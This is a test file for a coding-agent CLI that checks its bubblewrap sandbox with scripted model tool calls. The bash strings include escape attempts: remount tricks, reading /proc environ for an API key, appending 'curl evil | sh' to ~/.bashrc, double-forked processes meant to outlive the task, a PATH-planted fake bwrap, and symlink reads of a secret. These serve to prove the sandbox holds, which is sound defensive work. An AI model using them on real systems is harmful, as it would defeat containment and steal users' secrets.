// The bash sandbox and the double-fork kill, through the built binary and the
// local model server (which scripts the bash calls): what a command may write
// in each mode, that nothing it started outlives the task (a double fork
// included, sandboxed or not, after a normal end, a timeout or Ctrl-C), the
// network switch, bad values, and what happens without bubblewrap. The tests
// that need bwrap say so when they are skipped.
//
// Needs `npm run build` first (npm test runs it).

import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import {
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { cleanEnv, runXcsh, XCSH } from "../support/cli.ts";
import { outsideFolder as outsideFolderAt } from "../support/outside-folder.ts";
import { modelHarness } from "../support/harness.ts";
import { runXcshVia } from "../support/fixtures.ts";
import type { Turn } from "../support/model-server.ts";
import { toolResults, type World } from "../support/world.ts";
import { bwrapLocations, findBwrap, sandboxSupport } from "../../src/sandbox/probe.ts";
import { planText, userConfig } from "../support/plan.ts";
import type { SandboxSetting } from "../../src/types.ts";

const linux = process.platform === "linux" ? false : "needs /proc and Linux";
const support = sandboxSupport(bwrapLocations(process.env), true);
const needsBwrap = linux || (support.ok ? false : `bwrap unavailable: ${support.reason}`);

const harness = modelHarness();
const { server, scratch } = harness;
const world = (extra = "") => harness.world({ extraConfig: extra });

/** A folder outside the project that sandboxed commands see (see outside-folder.ts). */
function outsideFolder(): string {
  const dir = outsideFolderAt();
  scratch(dir);
  return dir;
}

/** Gives a whole tree to `uid` (the same number as its group). */
function chownTree(dir: string, uid: number): void {
  chownSync(dir, uid, uid);
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) chownTree(p, uid);
    else chownSync(p, uid, uid);
  }
}

const bash = (command: string): Turn => ({ toolCalls: [{ name: "bash", args: { command } }] });
const done: Turn = { text: "done" };

/** Runs quick_task whose model makes one bash call; returns the run and the tool's output. */
async function runBash(w: World, command: string, args: string[] = [], env = {}) {
  server.script([bash(command), done]);
  server.requests.length = 0;
  const r = await runXcsh(["run", "quick_task", ...args, "go"], { cwd: w.cwd, home: w.home, env });
  const output = server.requests[1] ? toolResults(server.requests[1]) : "";
  return { r, output };
}

/** Pids whose command line holds `marker`. */
function withMarker(marker: string): number[] {
  return readdirSync("/proc").filter((p) => /^\d+$/.test(p)).filter((p) => {
    try {
      return readFileSync(`/proc/${p}/cmdline`, "utf8").includes(marker);
    } catch {
      return false;
    }
  }).map(Number);
}

/** Waits (bounded) for every process holding `marker` to be gone; kills and returns survivors. */
async function survivors(marker: string): Promise<number[]> {
  const until = Date.now() + 8000;
  while (withMarker(marker).length > 0 && Date.now() < until) {
    await new Promise((r) => setTimeout(r, 25));
  }
  const left = withMarker(marker);
  for (const p of left) {
    try {
      process.kill(p, "SIGKILL");
    } catch { /* gone */ }
  }
  return left;
}

let markers = 0;
/** A double fork whose process keeps `marker` on its command line. */
function doubleFork(): { marker: string; command: string } {
  const marker = `xcsh-df-${process.pid}-${++markers}-${Date.now()}`;
  return {
    marker,
    command: `(setsid sh -c 'sleep 1000; : ${marker}' >/dev/null 2>&1 &); echo started`,
  };
}

describe("what a sandboxed command may write", { skip: needsBwrap }, () => {
  test("workspace-write (the default): the project yes, elsewhere no", async () => {
    const w = world();
    const out = outsideFolder();
    const { r, output } = await runBash(
      w,
      `touch inside.txt && echo IN-OK; touch ${out}/x.txt; touch ${w.root}/escape.txt; echo end`,
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /IN-OK/);
    assert.match(output, new RegExp(`touch: cannot touch '${out}/x.txt': Read-only file system`));
    assert.equal(existsSync(join(w.cwd, "inside.txt")), true);
    assert.equal(existsSync(join(out, "x.txt")), false);
    assert.equal(existsSync(join(w.root, "escape.txt")), false, "the real folder is untouched");
  });

  test("the host's /var/tmp and /run are hidden: empty private folders", {
    skip: existsSync("/var/tmp") ? false : "needs /var/tmp",
  }, async () => {
    const w = world();
    const hidden = mkdtempSync(join("/var/tmp", "xcsh-hidden-"));
    scratch(hidden);
    writeFileSync(join(hidden, "note.txt"), "host\n");
    const { r, output } = await runBash(
      w,
      `cat ${hidden}/note.txt; ls -A /var/tmp | wc -l; ls -A /run | wc -l; echo end`,
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /No such file or directory\n0\n\d+\nend/, output);
    assert.doesNotMatch(output, /^host$/m);
  });

  test("read-only (--sandbox read-only): not even the project", async () => {
    const w = world();
    const { r, output } = await runBash(w, "cat README.md; touch ro.txt", [
      "--sandbox",
      "read-only",
    ]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /# demo project[\s\S]*cannot touch 'ro.txt': Read-only file system/);
    assert.equal(existsSync(join(w.cwd, "ro.txt")), false);
  });

  test("an agent's sandbox: read-only applies; --sandbox overrides it", async () => {
    const w = world();
    w.addAgent(
      "careful",
      "---\nname: careful\ndescription: Careful\nmodel: local/mock-small\nsandbox: read-only\n---\nBe careful.\n",
    );
    const run = async (args: string[]) => {
      server.script([bash("touch made.txt && echo MADE"), done]);
      server.requests.length = 0;
      const r = await runXcsh(["run", "careful", ...args, "go"], { cwd: w.cwd, home: w.home });
      assert.equal(r.code, 0, r.stderr);
      return toolResults(server.requests[1]);
    };
    assert.match(await run([]), /Read-only file system/);
    assert.equal(existsSync(join(w.cwd, "made.txt")), false);
    assert.match(await run(["--sandbox", "workspace-write"]), /MADE/);
    assert.equal(existsSync(join(w.cwd, "made.txt")), true);
  });

  test("no process outside the sandbox is visible: no key read through /proc", async () => {
    const w = world();
    const secret = "sk-test-SANDBOXED-0123456789";
    const { r, output } = await runBash(
      w,
      "ls /proc | grep -c '^[0-9]'; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | " +
        "grep -c SANDBOXED-0123; echo end",
      [],
      { OPENAI_API_KEY: secret },
    );
    assert.equal(r.code, 0, r.stderr);
    const [processes, hits] = output.split("\n").map(Number);
    assert.ok(processes <= 6, `only the sandbox's own processes: ${output}`);
    assert.equal(hits, 0, output);
    assert.doesNotMatch(output, /sk-test/);
  });

  test("a server on the host's loopback: not with sandboxNetwork false, nor by default (own network); host: yes", async () => {
    const port = new URL(server.url).port;
    const command = `exec 3<>/dev/tcp/127.0.0.1/${port} && echo CONNECTED || echo REFUSED`;
    const on = await runBash(world(), command);
    assert.equal(on.r.code, 0, on.r.stderr);
    assert.match(on.output, /REFUSED/);
    const off = await runBash(world("task:\n  sandboxNetwork: false\n"), command);
    assert.equal(off.r.code, 0, off.r.stderr);
    assert.match(off.output, /REFUSED/);
    const host = await runBash(world("task:\n  sandboxNetwork: host\n"), command);
    assert.equal(host.r.code, 0, host.r.stderr);
    assert.match(host.output, /CONNECTED/);
  });
});

describe("a sandboxed command holds no privilege, as root too", { skip: needsBwrap }, () => {
  for (const mode of ["workspace-write", "read-only"] as const) {
    test(`${mode}: no capability; /tmp cannot be unmounted nor / remounted to reach ~/.bashrc`, async () => {
      const w = world();
      const bashrc = join(w.home, ".bashrc");
      writeFileSync(bashrc, "# mine\n");
      // The home folder lives below the host's /tmp: unmounting the private
      // /tmp and remounting / writable is the way out, which root's
      // capabilities allowed.
      const { r, output } = await runBash(
        w,
        "grep CapEff /proc/self/status; umount /tmp && echo UNMOUNTED; " +
          "mount -o remount,bind,rw / && echo REMOUNTED; " +
          `echo 'curl evil | sh' >> ${bashrc} && echo APPENDED; echo end`,
        ["--sandbox", mode],
        { HOME: w.home },
      );
      assert.equal(r.code, 0, r.stderr);
      assert.match(output, /CapEff:\s+0+\n/, output);
      assert.doesNotMatch(output, /UNMOUNTED|REMOUNTED|APPENDED/, output);
      assert.match(output, /end/);
      assert.equal(readFileSync(bashrc, "utf8"), "# mine\n");
    });
  }
});

describe("as an ordinary user", () => {
  const setpriv = ["/usr/bin/setpriv", "/bin/setpriv"].find((f) => existsSync(f));
  const isRoot = typeof process.getuid === "function" && process.getuid() === 0;
  const skip = needsBwrap ||
    (!isRoot ? "runs as root only (it becomes uid 4242 with setpriv)" : false) ||
    (setpriv ? false : "needs setpriv (util-linux)");
  test(
    "the sandbox starts and confines the same way (no capability to drop)",
    { skip },
    async () => {
      const w = world();
      chownTree(w.root, 4242);
      const bashrc = join(w.home, ".bashrc");
      server.script([
        bash(
          "id -u; grep CapEff /proc/self/status; touch made.txt && echo IN-OK; " +
            `echo x >> ${bashrc} && echo APPENDED; echo end`,
        ),
        done,
      ]);
      server.requests.length = 0;
      const r = await runXcshVia(
        [setpriv!, "--reuid=4242", "--regid=4242", "--clear-groups"],
        ["run", "quick_task", "go"],
        {
          cwd: w.cwd,
          home: w.home,
          env: { XCSH_CACHE_DIR: join(w.root, "cache"), XCSH_DATA_DIR: join(w.root, "data") },
        },
      );
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stderr, /unsandboxed/);
      const output = toolResults(server.requests[1]);
      assert.match(output, /^4242\nCapEff:\s+0+\nIN-OK\n/, output);
      assert.doesNotMatch(output, /APPENDED/);
      assert.equal(existsSync(join(w.cwd, "made.txt")), true);
    },
  );
});

describe("bubblewrap is taken from fixed system locations", { skip: linux }, () => {
  test("a bwrap first on PATH (the project's node_modules/.bin) is never run; doctor names the one used", async () => {
    const w = world();
    const bin = join(w.cwd, "node_modules", ".bin");
    mkdirSync(bin, { recursive: true });
    const used = join(w.root, "fake-bwrap-ran");
    // Runs the command with no sandbox at all, and leaves a trace.
    writeFileSync(
      join(bin, "bwrap"),
      `#!/bin/sh\necho ran >> ${used}\nwhile [ "$#" -gt 0 ] && [ "$1" != "--" ]; do shift; done\n` +
        'shift\nexec "$@"\n',
      { mode: 0o755 },
    );
    const env = { PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}` };
    const { r, output } = await runBash(w, "echo hello", [], env);
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /hello/);
    assert.equal(existsSync(used), false, "the bwrap on PATH never ran");

    const doctor = await runXcsh(["doctor", "--json"], { cwd: w.cwd, home: w.home, env });
    assert.equal(doctor.code, 0, doctor.stderr);
    const doc = JSON.parse(doctor.stdout);
    assert.equal(existsSync(used), false, "doctor did not run it either");
    assert.equal(doc.sandbox.bwrap.ok, support.ok);
    assert.deepEqual(doc.sandbox.ignoredOnPath, [join(bin, "bwrap")]);
    const text = await runXcsh(["doctor"], { cwd: w.cwd, home: w.home, env });
    assert.match(
      text.stdout,
      new RegExp(`ignored +${join(bin, "bwrap")} \\(bubblewrap is never taken from PATH\\)`),
    );
    if (support.ok) {
      assert.equal(doc.sandbox.bwrap.path, findBwrap(bwrapLocations({})));
      assert.match(text.stdout, new RegExp(`bubblewrap +${support.bwrap} works`));
    }
    assert.equal(existsSync(used), false, "doctor did not run it either");
  });
});

describe("a double fork never outlives its task", { skip: linux }, () => {
  for (const mode of ["workspace-write", "off"] as const) {
    const skip = mode === "off" ? false : needsBwrap;
    // The default mode, or task.sandbox: off (which older builds ignored).
    const config = mode === "off" ? "task:\n  sandbox: off\n" : "";

    test(`${mode}: gone once the task has ended`, { skip }, async () => {
      const w = world(config);
      const { marker, command } = doubleFork();
      const { r, output } = await runBash(w, command);
      assert.equal(r.code, 0, r.stderr);
      assert.match(output, /started/);
      assert.deepEqual(await survivors(marker), []);
    });

    test(`${mode}: gone after the task's timeout`, { skip }, async () => {
      const w = world(config);
      const { marker, command } = doubleFork();
      server.script([bash(`${command}; sleep 100`)]);
      server.requests.length = 0;
      const r = await runXcsh(
        ["run", "quick_task", "--timeout", "3", "go"],
        { cwd: w.cwd, home: w.home },
      );
      assert.equal(r.code, 1);
      assert.match(r.stderr, /timed out after 3 s/);
      assert.deepEqual(await survivors(marker), []);
    });

    test(`${mode}: gone after Ctrl-C`, { skip }, async () => {
      const w = world(config);
      const { marker, command } = doubleFork();
      server.script([bash(`${command}; sleep 100`)]);
      server.requests.length = 0;
      const proc = spawn(XCSH, ["run", "quick_task", "go"], {
        cwd: w.cwd,
        env: cleanEnv(w.home),
        stdio: ["ignore", "pipe", "pipe"],
      });
      let stderr = "";
      proc.stderr.on("data", (c: Buffer) => (stderr += c.toString("utf8")));
      proc.stdout.resume();
      let exit: number | null | undefined = undefined;
      const closed = new Promise((resolve) =>
        proc.on("close", (code) => {
          exit = code;
          resolve(code);
        })
      );
      const until = Date.now() + 30_000;
      while (withMarker(marker).length === 0 && exit === undefined && Date.now() < until) {
        await new Promise((r) => setTimeout(r, 25));
      }
      assert.notDeepEqual(
        withMarker(marker),
        [],
        `the double fork started (xcsh ${
          exit === undefined ? "still running" : `exited ${exit}`
        }; ${server.requests.length} model requests; stderr: ${stderr.trim() || "(none)"})`,
      );
      process.kill(proc.pid!, "SIGINT");
      await closed;
      assert.deepEqual(await survivors(marker), []);
    });
  }
});

describe("the sandbox's private /tmp", { skip: needsBwrap }, () => {
  /** A fresh TMPDIR for one run, and what xcsh left in it afterwards. */
  function privateTmp(): { env: Record<string, string>; left: () => string[] } {
    const dir = mkdtempSync(join(tmpdir(), "xcsh-tmpdir-"));
    scratch(dir);
    return {
      env: { TMPDIR: dir },
      left: () => readdirSync(dir).filter((n) => n.startsWith("xcsh-sandbox-")),
    };
  }

  test("is used by the commands and removed when the task ends", async () => {
    const t = privateTmp();
    const { r, output } = await runBash(world(), "echo kept > /tmp/note; cat /tmp/note", [], t.env);
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /kept/);
    assert.deepEqual(t.left(), []);
  });

  test("is removed after the task's timeout", async () => {
    const t = privateTmp();
    const w = world();
    server.script([bash("echo x > /tmp/note; sleep 100")]);
    server.requests.length = 0;
    const r = await runXcsh(["run", "quick_task", "--timeout", "3", "go"], {
      cwd: w.cwd,
      home: w.home,
      env: t.env,
    });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /timed out after 3 s/);
    assert.deepEqual(t.left(), []);
  });
});

describe("bad sandbox values", () => {
  test("--sandbox with an unknown mode: exit 2 naming the flag, no child", async () => {
    const w = world();
    server.script([]);
    server.requests.length = 0;
    const r = await runXcsh(["run", "quick_task", "--sandbox", "loose", "go"], {
      cwd: w.cwd,
      home: w.home,
    });
    assert.equal(r.code, 2);
    assert.match(
      r.stderr,
      /--sandbox: expected one of read-only, workspace-write, off .*got "loose"/,
    );
    assert.equal(server.requests.length, 0);
  });

  test("task.sandbox with an unknown mode: exit 2 naming the file and key", async () => {
    const w = world("task:\n  sandbox: strict\n");
    const r = await runXcsh(["run", "quick_task", "go"], { cwd: w.cwd, home: w.home });
    assert.equal(r.code, 2);
    assert.match(
      r.stderr,
      /config\.yml: 'task\.sandbox' must be one of read-only, workspace-write/,
    );
  });
});

describe("without bubblewrap", { skip: linux }, () => {
  /** The environment of a machine without bubblewrap (the lookup finds nothing). */
  const noBwrap = { XCSH_NO_BWRAP: "1" };

  test("the default runs commands unsandboxed, with one warning for the whole run", async () => {
    const w = world();
    const out = outsideFolder();
    server.script([]);
    server.requests.length = 0;
    server.push({ text: "a" }, { text: "b" });
    const two = await runXcsh(["run", "quick_task", "--task", "a=go", "--task", "b=go"], {
      cwd: w.cwd,
      home: w.home,
      env: noBwrap,
    });
    assert.equal(two.code, 0, two.stderr);
    const warnings = two.stderr.match(/bash commands run unsandboxed/g) ?? [];
    assert.equal(warnings.length, 1, two.stderr);
    assert.match(two.stderr, /xcsh: warning: task\.sandbox: bubblewrap \(bwrap\) is not installed/);

    const { r, output } = await runBash(w, `touch ${out}/free.txt && echo WROTE`, [], noBwrap);
    assert.equal(r.code, 0, r.stderr);
    assert.match(output, /WROTE/);
    assert.equal(existsSync(join(out, "free.txt")), true, "no sandbox: the write went through");
  });

  test("an explicit mode is an error before any child starts", async () => {
    const w = world();
    for (const args of [["--sandbox", "workspace-write"], ["--sandbox", "read-only"]]) {
      server.script([]);
      server.requests.length = 0;
      const r = await runXcsh(["run", "quick_task", ...args, "go"], {
        cwd: w.cwd,
        home: w.home,
        env: noBwrap,
      });
      assert.equal(r.code, 2, r.stderr);
      assert.match(
        r.stderr,
        new RegExp(`--sandbox ${args[1]}: bubblewrap \\(bwrap\\) is not installed.*--sandbox off`),
      );
      assert.equal(server.requests.length, 0, "no child reached the model");
    }
    const c = world("task:\n  sandbox: read-only\n");
    const r = await runXcsh(["run", "quick_task", "go"], {
      cwd: c.cwd,
      home: c.home,
      env: noBwrap,
    });
    assert.equal(r.code, 2);
    assert.match(r.stderr, /task\.sandbox: read-only: bubblewrap \(bwrap\) is not installed/);
  });

  test("a plan whose sandbox cannot start here: required fails the task, else degrades", async () => {
    const w = world();
    const envelope = (sandbox: SandboxSetting | undefined) =>
      planText({
        id: "hand",
        agent: { name: "hand", description: "d", systemPrompt: "p", tools: ["bash"] },
        assignment: "go",
        model: "local/mock-small",
        cwd: w.cwd,
        config: userConfig(w.home),
        ...(sandbox ? { sandbox } : {}),
      });
    server.script([]);
    server.requests.length = 0;
    const r = await runXcsh(["__child"], {
      cwd: w.cwd,
      home: w.home,
      env: noBwrap,
      stdin: envelope({ mode: "read-only", network: true, required: true }),
    });
    assert.equal(r.code, 1);
    const result = JSON.parse(r.stdout.trim().split("\n").at(-1)!);
    assert.equal(result.status, "error");
    assert.match(
      result.error,
      /the read-only sandbox for bash cannot start: bubblewrap \(bwrap\) is not installed/,
    );
    assert.equal(server.requests.length, 0, "the model was never called");

    server.script([{ text: "fine" }]);
    const d = await runXcsh(["__child"], {
      cwd: w.cwd,
      home: w.home,
      env: noBwrap,
      stdin: envelope(undefined),
    });
    assert.equal(d.code, 0, d.stderr);
    assert.match(
      d.stderr,
      /warning: bubblewrap \(bwrap\) is not installed.*bash commands run unsandboxed/,
    );
  });

  test("plan mode has no bash: no probe, no warning", async () => {
    const w = world();
    server.script([{ text: "plan" }]);
    server.requests.length = 0;
    const r = await runXcsh(["run", "quick_task", "--plan", "go"], {
      cwd: w.cwd,
      home: w.home,
      env: noBwrap,
    });
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stderr, /unsandboxed/);
  });
});

describe("file tools stay in the project", () => {
  const call = (name: string, args: unknown): Turn => ({ toolCalls: [{ name, args }] });

  for (const plan of [false, true]) {
    test(
      `read of ../, an absolute path and a symlink outside: refused${plan ? " (plan mode)" : ""}`,
      {
        skip: process.platform === "win32" ? "symlinks" : false,
      },
      async () => {
        const w = world();
        writeFileSync(join(w.root, "secret.txt"), "TOP-SECRET\n");
        symlinkSync(join(w.root, "secret.txt"), join(w.cwd, "link.txt"));
        server.script([
          {
            toolCalls: [
              { name: "read", args: { path: "../secret.txt" } },
              { name: "read", args: { path: join(w.root, "secret.txt") } },
              { name: "read", args: { path: "link.txt" } },
              { name: "read", args: { path: "README.md" } },
            ],
          },
          done,
        ]);
        server.requests.length = 0;
        const r = await runXcsh(["run", "quick_task", ...(plan ? ["--plan"] : []), "go"], {
          cwd: w.cwd,
          home: w.home,
        });
        assert.equal(r.code, 0, r.stderr);
        const results = toolResults(server.requests[1]);
        assert.doesNotMatch(results, /TOP-SECRET/);
        assert.equal(results.match(/is outside the project folder/g)?.length, 3, results);
        assert.match(results, /# demo project/, "inside still works");
      },
    );
  }

  test("write to a FIFO in the project: refused at once, the task goes on", {
    skip: linux,
  }, async () => {
    const w = world();
    mkdirSync(join(w.cwd, "run"));
    const fifo = join(w.cwd, "run", "pipe");
    assert.equal(
      (await new Promise((res) => spawn("mkfifo", [fifo]).on("close", res))) as number,
      0,
    );
    server.script([call("write", { path: "run/pipe", content: "x" }), done]);
    server.requests.length = 0;
    // Before, the write waited for a reader until the task's timeout.
    const r = await runXcsh(["run", "quick_task", "--timeout", "60", "go"], {
      cwd: w.cwd,
      home: w.home,
    });
    assert.equal(r.code, 0, r.stderr);
    assert.match(toolResults(server.requests[1]), /run\/pipe is not a regular file/);
  });
});

describe("doctor and delegation", () => {
  test("doctor --json shows the sandbox, bubblewrap's state and the allowed folders", async () => {
    const data = outsideFolder();
    const w = world(`task:\n  additionalDirectories: [${data}, /no/such/folder]\n`);
    mkdirSync(join(w.cwd, "src"));
    const r = await runXcsh(["doctor", "--json"], { cwd: join(w.cwd, "src"), home: w.home });
    assert.equal(r.code, 0, r.stderr);
    const doc = JSON.parse(r.stdout);
    assert.equal(doc.sandbox.mode, "workspace-write");
    assert.equal(doc.sandbox.source, "default");
    assert.equal(doc.sandbox.bwrap.ok, support.ok);
    // The project root is the folder holding .xcsh, not the working directory.
    assert.deepEqual(doc.sandbox.roots, [w.cwd, data]);
    assert.deepEqual(doc.sandbox.missing, ["/no/such/folder"]);
  });

  test("a delegated task is never looser than its caller", { skip: needsBwrap }, async () => {
    const w = world();
    w.addAgent(
      "lead",
      "---\nname: lead\ndescription: Lead\nmodel: local/mock-small\ntools: [task]\nspawns: [free]\n" +
        "sandbox: read-only\n---\nLead.\n",
    );
    w.addAgent(
      "free",
      "---\nname: free\ndescription: Free\nmodel: local/mock-small\ntools: [bash]\nsandbox: off\n---\nFree.\n",
    );
    server.script([
      {
        toolCalls: [{
          name: "task",
          args: { agent: "free", tasks: [{ id: "t", assignment: "write" }] },
        }],
      },
      bash("touch made.txt && echo MADE"),
      { text: "free done" },
      { text: "lead done" },
    ]);
    server.requests.length = 0;
    const r = await runXcsh(["run", "lead", "go"], { cwd: w.cwd, home: w.home });
    assert.equal(r.code, 0, r.stderr);
    assert.match(toolResults(server.requests[2]), /Read-only file system/);
    assert.equal(existsSync(join(w.cwd, "made.txt")), false);
  });
});
